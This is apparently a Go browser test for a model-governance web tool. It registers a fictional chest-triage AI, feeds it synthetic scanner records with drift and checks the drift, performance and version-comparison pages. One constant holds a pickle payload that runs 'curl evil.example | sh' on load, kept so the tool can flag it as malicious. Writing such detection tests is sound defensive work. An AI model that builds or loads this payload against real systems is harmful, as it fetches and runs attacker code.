package browser

import (
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp/kb"
)

// plan is what is agreed on a made-up model; %s is the versions it covers.
const plan = `plan: 1
name: Chest Triage at St. Example
issued: 2026-01-12
model: {maker: Example Imaging, product: Chest Triage, versions: ["%s"], called: [chest], services: [triage], role: deployer}
intended_use: {purpose: Puts urgent images first., population: Adults, users: [radiologists], setting: radiology, not_for: [a diagnosis alone], autonomy: assists}
inputs:
  - {name: kvp, type: number, unit: kV, range: [60, 180]}
  - {name: age, type: number, unit: a, range: [0, 120]}
  - {name: body, type: category, categories: [CHEST, ABDOMEN]}
outputs:
  - {name: score, type: number, unit: "1", range: [0, 1], meaning: probability, operating_points: [{name: first, threshold: %s, sensitivity: 0.7, specificity: 0.7, prevalence: 0.3}]}
training: {description: Made up., datasets: [{name: first, use: training, units: 3000}]}
units: {is: patient, column: patient, rows_per_unit: 1}
budget: {alarms_per_year: 2, power: 0.8, effect: 0.3, within: 30d}
told: [lead radiologist]
watch:
  - {id: inputs, kind: drift, column: "*", at_most: 0.1, every: 1w, min_units: 100}
  - {id: auroc, kind: performance, metric: auroc, at_least: 0.8, every: 1mo, min_units: 100}
pccp:
  reference: example
  authorised: Example authority, 2026-01-12
  since: 2026-01-12
  changes:
    - {id: retrain, description: Weights are trained again., what: [weights], most_relative: 0.5, criteria: [{metric: auroc, dataset: second, at_least: 0.9, min_units: 200}]}
  protocol: {data: Apart., retraining: Once a year., evaluation: On the second., update: Four weeks before.}
  impact: [{change: retrain, benefit: keeps up, risk: worse on one scanner, mitigation: both are looked at}]
  rollback: The version before stays installed.
acceptance: {by: [lead radiologist], reference: reference.sketch, min_units: 300, criteria: [{metric: auroc, at_least: 0.8, min_units: 300}], again: 1y}
fallback: {plan: Images are read in order., switch_off: [radiologist on duty], within: 10m, tested: 2026-01-20, document: SOP-1}
logs: {where: triage, fields: [time, model, input, output, user-action], kept: 13mo, by: IT, since: 2026-01-12, purpose: AI Act}
`

const mapping = `inference: 1
model: chest
version: "1.0"
service: triage
maker: Example Imaging
product: Chest Triage
window: 24h
late: 720h
fields:
  id: {as: record}
  patient: {as: unit}
  at: {as: time}
  scanner: {as: source}
  kvp: {as: feature, unit: kV}
  age: {as: feature, unit: a}
  sex: {as: group, values: [F, M]}
  body: {as: feature}
  score: {as: score}
  sick: {as: label, positive: ["1"], negative: ["0"]}
`

// tensors is what "model diff --format json" prints of two versions.
const tensors = `{"type":"difference","formats":["safetensors"],"tensors":3,"same":1,"files_same":1,"changes":[
{"name":"adapter.gate","kind":"added","to":"F32[64]"},{"name":"head.weight","kind":"shape","from":"F32[2,64]","to":"F32[3,64]"},
{"name":"layer.5.q.weight","kind":"values","from":"F32[64,64]","to":"F32[64,64]","count":4096,"moved":{"changed":1248,"max":0.71,"mean":0.05,"relative":0.115,"cosine":0.99}},
{"name":"layer.4.q.weight","kind":"values","from":"F32[64,64]","to":"F32[64,64]","count":4096,"moved":{"changed":40,"max":0.01,"mean":0.0001,"relative":0.002,"cosine":1}}]}`

// exploit is a pickle that runs a command when it is loaded.
const exploit = "\x80\x02cposix\nsystem\nq\x00X\x16\x00\x00\x00curl evil.example | sh\x85q\x01Rq\x02."

// days are records of a scanner ward, one file for all: on some of the days CT_3 has
// new software and a higher tube voltage, and later the outcomes are worse.
func days(first, last, rows int, updated func(ago int) bool) string {
	rnd := rand.New(rand.NewPCG(11, uint64(first)))
	today := time.Now().UTC().Truncate(24 * time.Hour)
	var b strings.Builder
	b.WriteString("id,patient,at,scanner,kvp,age,sex,body,score,sick\n")
	for ago := first; ago >= last; ago-- {
		for i := range rows {
			ct, kvp, sick, bad := 3+i%2, 120+8*rnd.NormFloat64(), 0, updated(ago)
			if rnd.Float64() < 0.3 {
				sick = 1
			}
			score := 1 / (1 + math.Exp(1.8-3*float64(sick)-1.2*rnd.NormFloat64()))
			if bad && ct == 3 {
				kvp += 14
			}
			if bad && rnd.Float64() < 0.45 {
				sick = 1 - sick
			}
			at := today.AddDate(0, 0, -ago).Add(time.Duration(i) * 4 * time.Minute)
			fmt.Fprintf(&b, "r%d-%d,p%d-%d,%s,CT_%d,%.4f,%.3f,%s,%s,%.6f,%d\n", ago, i, ago, i, at.Format(time.RFC3339), ct, kvp, 60+15*rnd.NormFloat64(), []string{"F", "M"}[rnd.IntN(2)], []string{"CHEST", "CHEST", "ABDOMEN"}[rnd.IntN(3)], score, sick)
		}
	}
	return b.String()
}

// TestModel: from the list to a model, to a square of the map, to the distribution
// beside the reference; a malicious file is told step by step; two versions are held
// beside each other.
func TestModel(t *testing.T) {
	chromium(t)
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	file := func(name, content string) string {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	cli := func(args ...string) {
		t.Helper()
		cmd := exec.Command(build(t), append([]string{"--data", data}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
	}
	never := func(int) bool { return false }
	reference, mapped := filepath.Join(dir, "reference.sketch"), file("mapping.yaml", mapping)
	cli("model", "sketch", file("accepted.csv", days(70, 61, 300, never)), "--config", mapped, "-o", reference)
	file("m1/model.pkl", exploit)
	file("m2/weights.json", "{}")
	diff := file("diff.json", tensors)
	for i, threshold := range []string{"0.5", "0.3"} {
		version := fmt.Sprint(i + 1)
		p := file("plan-"+version+".yaml", fmt.Sprintf(plan, version+".*", threshold))
		cli("model", "register", filepath.Join(dir, "m"+version), "--plan", p, "--version", version+".0", "--called", "chest")
		cli("model", "import", reference, "--maker", "Example Imaging", "--product", "Chest Triage", "--version", version+".0", "--called", "chest")
	}
	cli("model", "import", diff, "--maker", "Example Imaging", "--product", "Chest Triage", "--version", "2.0", "--called", "chest")
	config := file("wardround.yaml", "inference:\n  - {name: triage, mapping: "+mapped+", watch: "+filepath.Join(dir, "incoming")+"}\n")
	file("incoming/days.csv", days(16, 1, 200, func(ago int) bool { return ago <= 10 && ago > 3 }))

	s, stop := run(t, "--config", config, "serve", "--listen", "127.0.0.1:0", "--data", data)
	t.Cleanup(stop)
	b := open(t, s.base)
	b.visit(s.link)
	b.text("Make the first account")
	b.fill("Name", "anna")
	b.fill("How others see you", "Anna Maier")
	b.fill("Password", passphrase)
	b.fill("Password again", passphrase)
	b.press("Make the account")
	b.at("/start")
	moved := `fetch("/api/v1/models/chest@triage/heat").then(r => r.ok ? r.json() : {rows: []}).then(h => h.rows.some(x => x.column === "kvp" && !x.group && x.topic === "drift" && x.cells.some(c => c.state === "fail")))`
	for range 3 { // each may take as long as a page
		if eval[bool](b, `new Promise(done => { const end = Date.now() + 25000; const ask = () => `+moved+`.then(ok => ok || Date.now() > end ? done(ok) : setTimeout(ask, 500)); ask(); })`) {
			break
		}
	}

	b.visit("/models")
	b.text("1 model is known")
	b.text("malicious")
	b.accessible("models")
	b.press("chest")
	b.at("/models/chest")
	b.text("What moved, and when")
	b.until("the map", `document.querySelectorAll(".md-heat button").length > 20`)
	b.text("What matters now")
	b.text("Do not load it: it would run what an attacker wrote.")
	b.text("and calls it with")
	b.text("AML.T0011.000")
	b.text("AUROC over time")
	b.until("performance over time, reliability and the decision curve", `document.querySelectorAll("[aria-label='AUROC over time'] canvas").length >= 3`)
	b.text("No row is kept")

	// By keyboard: a square that moved, and what was there.
	eval[bool](b, `([...document.querySelectorAll(".md-heat button[data-state=fail]")].find(x => x.getAttribute("aria-label").startsWith("kvp,")).focus(), true)`)
	b.keys(kb.Enter)
	b.text("of the rows lie elsewhere than in the reference")
	b.text("by the sketches")
	b.text("patients or studies")
	b.until("the plot", `document.querySelector(".md-picture canvas")`)
	for _, look := range looks {
		b.theme(look.theme)
		b.resize(look.at)
		b.visit(eval[string](b, "location.pathname + location.search"))
		b.settled()
		b.until("the plot", `document.querySelector(".md-picture canvas")`)
		b.accessible("model-" + look.theme + "-" + look.at.name)
		b.shot("model-" + look.theme + "-" + look.at.name)
		if over := eval[float64](b, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); over > 0 {
			t.Errorf("the model's page is %v pixels wider than the window %s", over, look.at.name)
		}
	}
	b.theme("light")
	b.resize(desk)
	b.visit("/models")
	b.settled()
	b.shot("models-light-desk")

	ids := eval[[]string](b, `fetch("/api/v1/releases?sort=version").then(r => r.json()).then(p => p.items.filter(x => x.kind === "model").map(x => x.id))`)
	if len(ids) != 2 {
		t.Fatalf("%d versions", len(ids))
	}
	b.visit("/models/compare?a=" + ids[0] + "&b=" + ids[1])
	b.text("References, column by column")
	b.text("people have to decide")
	b.text("Other values in 2 of 4 tensors.")
	b.text("no clause of the change control plan speaks of it")
	b.text("Measured here from outcomes")
	b.accessible("model-compare")
	b.shot("model-compare-light-desk")
}
